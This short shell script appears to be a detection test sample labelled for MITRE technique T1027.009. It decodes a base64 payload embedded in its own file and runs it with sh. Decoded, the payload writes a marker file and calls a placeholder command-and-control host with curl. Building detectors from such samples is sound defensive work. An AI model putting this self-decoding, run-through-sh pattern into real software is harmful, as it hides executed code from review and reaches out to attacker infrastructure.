# expect: encoded-payload-run | source: T1027.009
sed -n '/^LOOK$/,$p' "$0" | tail -n +2 | base64 -d | sh
exit 0
LOOK
ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv
